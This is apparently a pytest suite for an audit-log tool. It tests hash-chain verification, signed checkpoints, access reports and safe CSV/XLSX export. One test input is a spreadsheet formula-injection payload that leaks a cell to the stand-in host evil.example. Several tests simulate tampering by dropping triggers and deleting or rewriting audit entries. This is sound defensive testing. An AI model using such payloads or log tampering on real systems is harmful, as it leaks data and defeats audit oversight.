"""The audit commands as an auditor runs them: log, keygen, checkpoint, verify, export, access, show."""

from __future__ import annotations

import csv
import json
import os
import subprocess
import sys
import zipfile
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook
from sqlalchemy.engine import Engine
from sqlmodel import Session

from extranet_intake.auditchain.chain import AUDIT_ENTRY, AUDIT_HEAD, AuditAction, append_entry
from extranet_intake.intake.cli import main
from extranet_intake.intake.store import DocumentStore

T0 = datetime(2026, 3, 2, 8, 0, tzinfo=UTC)
ORG = "0403170701"
EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'


def _config(tmp_path: Path, db_url: str) -> Path:
    path = tmp_path / "extranet_intake.intake.toml"
    path.write_text(
        f'[database]\nurl = "{db_url}"\n\n[store]\npath = "store"\n\n'
        '[audit]\ncheckpoint_key_file = "keys/audit-checkpoint.key"\n'
        'checkpoint_public_key_file = "keys/audit-checkpoint.pub"\n',
        encoding="utf-8",
    )
    return path


def _populate(engine: Engine, store: DocumentStore) -> str:
    sha = store.put(b"%PDF-1.7 a user fiche")
    with Session(engine) as s:

        def add(minutes: int, action: AuditAction, login: str | None, reason: str, **details: object) -> None:
            append_entry(
                s,
                actor="system",
                action=action,
                org=ORG,
                login=login,
                document_sha256=sha,
                reason=reason,
                details=dict(details),
                at=T0 + timedelta(minutes=minutes),
            )

        add(0, AuditAction.DOCUMENT_RECEIVED, None, EVIL)
        add(
            1,
            AuditAction.ACCOUNT_CREATED,
            "ab12cd34",
            "dossier complete",
            profile="consult",
            scope="selected",
            contracts=["GI-001"],
        )
        add(
            2,
            AuditAction.LEGACY_REVOKED,
            "OLD0042",
            "legacy revoked on opening",
            profile="consult_input",
            scope="all",
            contracts=[],
        )
        add(
            60 * 24 * 3,
            AuditAction.ACCOUNT_MODIFIED,
            "ab12cd34",
            "+full replacement",
            profile="consult_input",
            scope="selected",
            contracts=["GI-001", "GI-002"],
        )
        s.commit()
    return sha


def _run(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out = capsys.readouterr()
    return code, out.out, out.err


def test_audit_commands_end_to_end(
    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = str(_config(tmp_path, db_url))
    sha = _populate(engine, DocumentStore(tmp_path / "store"))

    code, out, _ = _run(capsys, "audit", "log", "-c", cfg, "--org", ORG, "--json")
    log = json.loads(out)
    assert code == 0
    assert [e["seq"] for e in log] == [1, 2, 3, 4]
    assert log[1]["details"] == {"contracts": ["GI-001"], "profile": "consult", "scope": "selected"}
    code, out, _ = _run(capsys, "audit", "log", "-c", cfg, "--since", "2026-03-04", "--json")
    assert [e["seq"] for e in json.loads(out)] == [4]

    assert _run(capsys, "audit", "keygen", "--out", str(tmp_path / "keys"))[0] == 0
    assert (tmp_path / "keys" / "audit-checkpoint.key").stat().st_mode & 0o077 == 0
    assert _run(capsys, "audit", "keygen", "--out", str(tmp_path / "keys"))[0] == 2  # never overwrites

    checkpoint = str(tmp_path / "head.json")
    code, out, _ = _run(capsys, "audit", "checkpoint", "-c", cfg, "--out", checkpoint, "--by", "ops")
    assert code == 0
    assert json.loads(Path(checkpoint).read_text())["seq"] == 4
    code, out, _ = _run(capsys, "audit", "verify", "-c", cfg, "--checkpoint", checkpoint, "--json")
    assert code == 0
    assert json.loads(out)["count"] == 5  # the checkpoint entry itself is the fifth

    code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-03", "--json")
    assert code == 0
    held = {g["login"]: g for g in json.loads(out)}
    assert held["ab12cd34"]["profile"] == "consult"
    assert held["ab12cd34"]["contracts"] == ["GI-001"]
    assert "OLD0042" not in held  # revoked on 2 March
    code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-02T07:00:00Z", "--json")
    assert [(g["login"], g["legacy"]) for g in json.loads(out)] == [("OLD0042", True)]
    code, out, _ = _run(capsys, "audit", "access", "-c", cfg, "--at", "2026-03-06", "--contract", "GI-002", "--json")
    assert [(g["login"], g["profile"]) for g in json.loads(out)] == [("ab12cd34", "consult_input")]

    code, out, _ = _run(capsys, "audit", "show", "2", "-c", cfg, "--out", str(tmp_path / "orig.pdf"), "--json")
    assert code == 0
    assert json.loads(out)["document_sha256"] == sha
    assert (tmp_path / "orig.pdf").read_bytes() == b"%PDF-1.7 a user fiche"

    # an attacker drops the tail and fixes up the head: only the checkpoint notices
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SET LOCAL session_replication_role = replica")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_entry_no_delete")
        conn.execute(sa.delete(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq >= 4))
        last = conn.execute(sa.select(AUDIT_ENTRY.c.hash).where(AUDIT_ENTRY.c.seq == 3)).scalar_one()
        conn.execute(sa.update(AUDIT_HEAD).values(seq=3, hash=last))
    assert _run(capsys, "audit", "verify", "-c", cfg)[0] == 0
    code, _, err = _run(capsys, "audit", "verify", "-c", cfg, "--checkpoint", checkpoint)
    assert code == 1
    assert "entry 4" in err


def test_export_keeps_formulas_as_text(
    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = str(_config(tmp_path, db_url))
    _populate(engine, DocumentStore(tmp_path / "store"))

    out_csv = tmp_path / "audit.csv"
    assert _run(capsys, "audit", "export", "-c", cfg, "--format", "csv", "--out", str(out_csv))[0] == 0
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    assert rows[0]["reason"] == "'" + EVIL
    assert rows[3]["reason"] == "'+full replacement"
    assert rows[1]["reason"] == "dossier complete"

    out_xlsx = tmp_path / "audit.xlsx"
    assert _run(capsys, "audit", "export", "-c", cfg, "--format", "xlsx", "--out", str(out_xlsx))[0] == 0
    sheet = load_workbook(out_xlsx).active
    header = [c.value for c in sheet[1]]
    cell = sheet.cell(row=2, column=header.index("reason") + 1)
    assert cell.value == EVIL  # the exact text, as a string cell with the quote prefix
    assert cell.data_type == "s"
    assert cell.quotePrefix
    with zipfile.ZipFile(out_xlsx) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml
    assert "<f " not in xml


def test_verify_exit_code_from_a_real_process(tmp_path: Path, db_url: str, engine: Engine) -> None:
    cfg = str(_config(tmp_path, db_url))
    _populate(engine, DocumentStore(tmp_path / "store"))
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SET LOCAL session_replication_role = replica")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_entry_no_update")
        conn.execute(sa.update(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq == 2).values(login="attacker"))
    done = subprocess.run(
        [sys.executable, "-m", "extranet_intake.intake.cli", "audit", "verify", "-c", cfg],
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1
    assert "BROKEN at entry 2" in done.stderr


def test_verify_reports_a_blob_and_a_deleted_head_and_never_crashes(
    tmp_path: Path, db_url: str, engine: Engine
) -> None:
    _populate(engine, DocumentStore(tmp_path / "store"))
    env = {k: v for k, v in os.environ.items() if k != "EXTRANET_INTAKE_CONFIG"}

    def verify() -> subprocess.CompletedProcess[str]:
        # an auditor's check: no configuration file, the database named on the command line
        return subprocess.run(
            [sys.executable, "-m", "extranet_intake.intake.cli", "audit", "verify", "--database-url", db_url],
            capture_output=True,
            text=True,
            timeout=120,
            env=env,
            cwd=tmp_path,
        )

    assert verify().returncode == 0
    with engine.begin() as conn:
        conn.execute(sa.delete(AUDIT_HEAD))
    done = verify()
    assert (done.returncode, done.stderr.count("\n")) == (1, 1), done.stderr
    assert "BROKEN at entry 5 (head_missing)" in done.stderr
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SET LOCAL session_replication_role = replica")
            conn.exec_driver_sql("UPDATE audit_entry SET details = 'x' WHERE seq = 3")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_entry_no_update")
            conn.exec_driver_sql("UPDATE audit_entry SET details = X'00FF' WHERE seq = 3")
    done = verify()
    assert (done.returncode, done.stderr.count("\n")) == (1, 1), done.stderr
    assert "BROKEN at entry 3" in done.stderr
    assert "Traceback" not in done.stderr


def test_verify_with_a_checkpoint_needs_no_configuration(
    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = str(_config(tmp_path, db_url))
    _populate(engine, DocumentStore(tmp_path / "store"))
    assert _run(capsys, "audit", "keygen", "--out", str(tmp_path / "keys"))[0] == 0
    checkpoint = str(tmp_path / "head.json")
    assert _run(capsys, "audit", "checkpoint", "-c", cfg, "--out", checkpoint)[0] == 0
    pub = str(tmp_path / "keys" / "audit-checkpoint.pub")
    env = {k: v for k, v in os.environ.items() if k not in ("EXTRANET_INTAKE_CONFIG", "EXTRANET_AUDIT_KEY")}
    argv = [
        sys.executable,
        "-m",
        "extranet_intake.intake.cli",
        "audit",
        "verify",
        "--database-url",
        db_url,
        "--public-key",
        pub,
        "--checkpoint",
        checkpoint,
    ]
    elsewhere = tmp_path / "auditor"
    elsewhere.mkdir()
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env, cwd=elsewhere)
    assert done.returncode == 0, done.stderr
    assert "matches checkpoint at 4" in done.stdout
    assert not (elsewhere / "var").exists()  # nothing made where the auditor stands
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SET LOCAL session_replication_role = replica")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_entry_no_delete")
        conn.execute(sa.delete(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq >= 4))
        conn.execute(
            sa.update(AUDIT_HEAD).values(
                seq=3, hash=conn.execute(sa.select(AUDIT_ENTRY.c.hash).where(AUDIT_ENTRY.c.seq == 3)).scalar_one()
            )
        )
    done = subprocess.run(argv, capture_output=True, text=True, timeout=120, env=env, cwd=elsewhere)
    assert done.returncode == 1
    assert "BROKEN at entry 4 (truncated)" in done.stderr
    done = subprocess.run(argv[:-4], capture_output=True, text=True, timeout=120, env=env, cwd=elsewhere)
    assert done.returncode == 0  # internally consistent: only the checkpoint tells


def test_every_run_ends_with_a_signed_checkpoint_when_a_key_is_configured(
    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    _populate(engine, DocumentStore(tmp_path / "store"))
    cfg = _config(tmp_path, db_url)
    cfg.write_text(cfg.read_text(encoding="utf-8") + '\n[run]\ndata_dir = "var"\n', encoding="utf-8")
    assert _run(capsys, "audit", "keygen", "--out", str(tmp_path / "keys"))[0] == 0
    code, out, err = _run(capsys, "run", "-c", str(cfg), "--json")
    assert code == 0, err
    report = json.loads(out)
    assert report["checkpoint"]["ok"] is True
    first = Path(report["checkpoint"]["file"])
    assert json.loads(first.read_text())["seq"] == report["checkpoint"]["seq"]
    code, _, err = _run(capsys, "audit", "verify", "-c", str(cfg), "--checkpoint", str(first))
    assert code == 0, err
    code, out, _ = _run(capsys, "run", "-c", str(cfg), "--json")
    assert json.loads(out)["checkpoint"]["seq"] > report["checkpoint"]["seq"]
    assert (first.parent / "checkpoint-latest.json").exists()
    # a broken chain gets no checkpoint: the run says so and fails
    with engine.begin() as conn:
        if conn.dialect.name == "postgresql":
            conn.exec_driver_sql("SET LOCAL session_replication_role = replica")
        else:
            conn.exec_driver_sql("DROP TRIGGER audit_entry_no_update")
        conn.execute(sa.update(AUDIT_ENTRY).where(AUDIT_ENTRY.c.seq == 2).values(reason="edited"))
    code, out, _ = _run(capsys, "run", "-c", str(cfg), "--json")
    assert code == 1
    assert [f["code"] for f in json.loads(out)["failures"]] == ["audit-chain-broken"]


def test_log_and_export_add_the_catalogue_words_to_the_codes(
    tmp_path: Path, db_url: str, engine: Engine, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = str(_config(tmp_path, db_url))
    store = DocumentStore(tmp_path / "store")
    _populate(engine, store)
    with Session(engine) as s:
        append_entry(
            s,
            actor="system",
            action=AuditAction.DOCUMENT_REJECTED,
            org=ORG,
            login=None,
            document_sha256=None,
            reason="user-email-in-use, contracts-missing",
            details={},
            at=T0 + timedelta(days=5),
        )
        s.commit()
    code, out, _ = _run(capsys, "audit", "log", "-c", cfg, "--json")
    assert code == 0
    last = json.loads(out)[-1]
    assert last["reason"] == "user-email-in-use, contracts-missing"  # the code as recorded
    assert last["reason_text"] == "E-mail address already used, Contracts missing"
    assert json.loads(out)[1]["reason_text"] == "dossier complete"  # free text stays itself

    code, out, _ = _run(capsys, "audit", "log", "-c", cfg)
    assert "E-mail" in out  # the table may wrap the words over lines
    assert "user-email-in-use" not in out

    out_csv = tmp_path / "audit.csv"
    assert _run(capsys, "audit", "export", "-c", cfg, "--format", "csv", "--out", str(out_csv))[0] == 0
    rows = list(csv.DictReader(out_csv.open(encoding="utf-8-sig", newline="")))
    assert rows[-1]["reason"] == "user-email-in-use, contracts-missing"
    assert rows[-1]["reason_text"] == "E-mail address already used, Contracts missing"
    assert rows[0]["reason_text"] == "'" + EVIL
